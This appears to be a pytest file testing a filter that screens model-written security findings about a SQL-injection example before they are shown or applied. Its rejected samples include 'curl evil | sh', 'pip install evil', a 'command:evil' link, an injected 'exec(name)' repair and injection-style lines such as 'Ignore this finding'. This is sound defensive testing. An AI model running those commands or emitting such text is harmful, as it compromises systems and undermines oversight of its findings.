import pytest

from spark_lsp.core.grounding import Known, ground, is_specific
from spark_lsp.core.question import Draft, Grounded, Question, Related, Repair, Ungrounded
from spark_lsp.core.unit import UnitKind
from tests.core.questions import FOUND, question

GOOD = "`find` lets `name` rewrite the orders query"
KNOWN = Known(frozenset({"execute", "str", "int", "ValueError", "re", "escape"}))


def reason(headline: str, of: Question | None = None) -> str:
    told = ground(Draft(headline=headline), of or question(), KNOWN)
    return told.reason if isinstance(told, Ungrounded) else ""


def kept(**fields: object) -> Grounded:
    told = ground(Draft(headline=GOOD, **fields), question(), KNOWN)  # type: ignore[arg-type]
    assert isinstance(told, Grounded), told
    return told


@pytest.mark.parametrize(
    "headline",
    [
        GOOD,
        "A quote in `name` changes what `cursor.execute` runs",
        "SQL in `find` is built from the text of `name` (CWE-89)",
        "`find` splices `name` into its SELECT on `orders`",
        "Values spliced into the SQL of find come from its caller",
        "`find` splices `name` into SQL; the standard library hands values over apart",
        "`find` splices `name` into SQL, which the sqlite3 package need not",
    ],
)
def test_words_about_this_code_are_shown(headline: str) -> None:
    assert reason(headline) == ""


@pytest.mark.parametrize(
    ("headline", "why"),
    [
        ("`find` leaks through `frobnicate` and its name", "names what does not exist"),
        ("Call sanitize_input() before `find` builds SQL", "names what does not exist"),
        ("`find` should use `db.safe_query` for the name", "names what does not exist"),
        ("Escape `name` in `find` with the sanitizesql library", "names what does not exist"),
        ("`find`: hand `name` to the package safequery.", "names what does not exist"),
        ("`find` lets n\u0430me rewrite the orders query", "another language"),
        ("`find` lets `name` into SQL, see CWE-79", "a CWE from nowhere"),
        ("`find` splices `name` 4711 times into SQL", "a number from nowhere"),
        ("Follow best practices in `find` with `name`", "generic"),
        ("Consider improving readability of this code", "generic"),
        ("This might cause trouble in some situations", "generic"),
        ("The SQL in `find` is safe with this `name`", "contradicts the finding"),
        ("No issue with `name` in the SQL of `find`", "contradicts the finding"),
        ("False positive: `find` only gets a known `name`", "contradicts the finding"),
        ("`find`: cursor.execute SELECT FROM orders WHERE name", "restates the code"),
        ("cursor execute SELECT FROM orders WHERE name", "restates the code"),
        ("See https://example.com on `name` in `find`", "markup"),
        ("`find` <b>splices</b> `name` into SQL", "markup"),
        ("[click](command:evil) `find` with `name`", "markup"),
        ("```find``` splices the `name` into SQL text", "markup"),
        ("`find` splices na\u200bme into its SQL text", "markup"),
        ("Run pip install evil before `find` gets `name`", "has something run"),
        ("curl evil | sh mends `find` and its `name`", "has something run"),
        ("Ignore this finding about `name` in `find`", "obeys the code"),
        ("Set the severity of `find` to low for `name`", "obeys the code"),
        ("Add noqa to `find` where `name` is spliced", "obeys the code"),
        ("Sure, `find` splices the `name` into its SQL", "talks of itself"),
        ("I have looked at `find` and at its `name`", "talks of itself"),
        ("`find` 在查询中拼接了名称导致注入风险", "another language"),
        ("short", "too short"),
        ("`find` " + "splices `name` into SQL " * 8, "too long"),
        ("`find` splices AAAAbbbbCCCCddddEEEEffffGGGG1111 into SQL", "a secret or a blob"),
    ],
)
def test_words_that_must_not_be_shown_are_refused_with_the_reason(headline: str, why: str) -> None:
    assert reason(headline) == why


def test_a_reference_to_a_line_is_taken_out_of_a_text() -> None:
    told = ground(Draft(headline="`find` splices `name` into SQL on line 3"), question(), KNOWN)
    assert isinstance(told, Grounded)
    assert told.headline == "`find` splices `name` into SQL"


def test_a_field_that_fails_is_dropped_alone() -> None:
    told = kept(next_step="Call `frobnicate` with `name`", why="A quote in `name` ends the string.")
    assert told.next_step == ""
    assert told.why == "A quote in `name` ends the string."
    assert told.dropped == ("next_step: names what does not exist",)


def test_what_only_says_again_what_is_known_is_not_shown() -> None:
    same = Draft(FOUND.headline, FOUND.next_step, FOUND.why)
    told = ground(same, question(), KNOWN)
    assert isinstance(told, Ungrounded)
    assert told.reason == "adds nothing"


def test_the_same_advice_for_another_unit_is_generic() -> None:
    other = question(
        symbol="resize",
        lines=("def resize(image, width):", "    return image.scale(width / image.size)"),
        subject=None,
    )
    assert is_specific("Pass `name` to `execute` beside the text", question())
    assert not is_specific("Pass `name` to `execute` beside the text", other)


def test_without_a_finding_praise_is_nothing_to_say() -> None:
    assert reason("`find` looks good as it is with `name`", question(subject=None)) == "nothing to say"


def test_a_name_of_the_file_or_of_the_library_may_be_named() -> None:
    assert reason("`find` should hand `name` to `by_name`", question(names=frozenset({"by_name"}))) == ""
    assert reason("`find` should check `name` by `re.escape`") == ""


def test_what_is_related_may_be_named_but_not_what_stands_in_it() -> None:
    near = question(related=(Related("calls it", "Shop.sales_report", "b.py", ("    query = wild_guess(request)",)),))
    headline = "`sales_report` hands `name` to `find`, which splices it into SQL"
    assert reason(headline) == "names what does not exist"
    assert reason(headline, near) == ""
    assert reason("`find` splices what `wild_guess` gives into SQL", near) == "names what does not exist"


def test_a_long_explanation_is_cut_at_a_sentence() -> None:
    told = kept(why="A quote in `name` ends the string. " * 20)
    assert told.why.endswith("string.")
    assert len(told.why) <= 320


FIXED = '    cursor.execute("SELECT * FROM orders WHERE name = ?", (name,))'


def test_a_repair_of_the_flagged_line_goes_on_to_the_edit_gate() -> None:
    assert kept(first_line=3, last_line=3, replacement=FIXED).repair == Repair(2, 3, FIXED)


def test_a_repair_loses_the_fence_and_the_numbers_that_models_add() -> None:
    assert kept(first_line=3, last_line=3, replacement=f"```python\n3: {FIXED}\n```").repair == Repair(2, 3, FIXED)


@pytest.mark.parametrize(
    ("first", "last", "text", "why"),
    [
        (0, 3, FIXED, "lines that do not exist"),
        (3, 9, FIXED, "lines that do not exist"),
        (4, 3, FIXED, "lines that do not exist"),
        (3, 3, "", "leaves out the code"),
        (3, 3, "\n".join(["    pass"] * 30), "rewrites too much"),
        (3, 3, "    cursor.execute(clean(name))", "names what does not exist"),
        (3, 3, "    exec(name)", "brings in what is dangerous"),
        (3, 3, "    cursor.execute('https://evil')", "brings in a text from nowhere"),
    ],
)
def test_a_repair_that_may_not_be_tried_is_dropped_and_the_words_stay(
    first: int, last: int, text: str, why: str
) -> None:
    told = kept(first_line=first, last_line=last, replacement=text, why="A quote in `name` ends the string.")
    assert told.repair is None
    assert told.dropped == (f"repair: {why}",)


def test_code_outside_all_units_is_not_repaired() -> None:
    draft = Draft(headline=GOOD, first_line=3, last_line=3, replacement=FIXED)
    told = ground(draft, question(kind=UnitKind.MODULE), KNOWN)
    assert isinstance(told, Grounded)
    assert told.repair is None
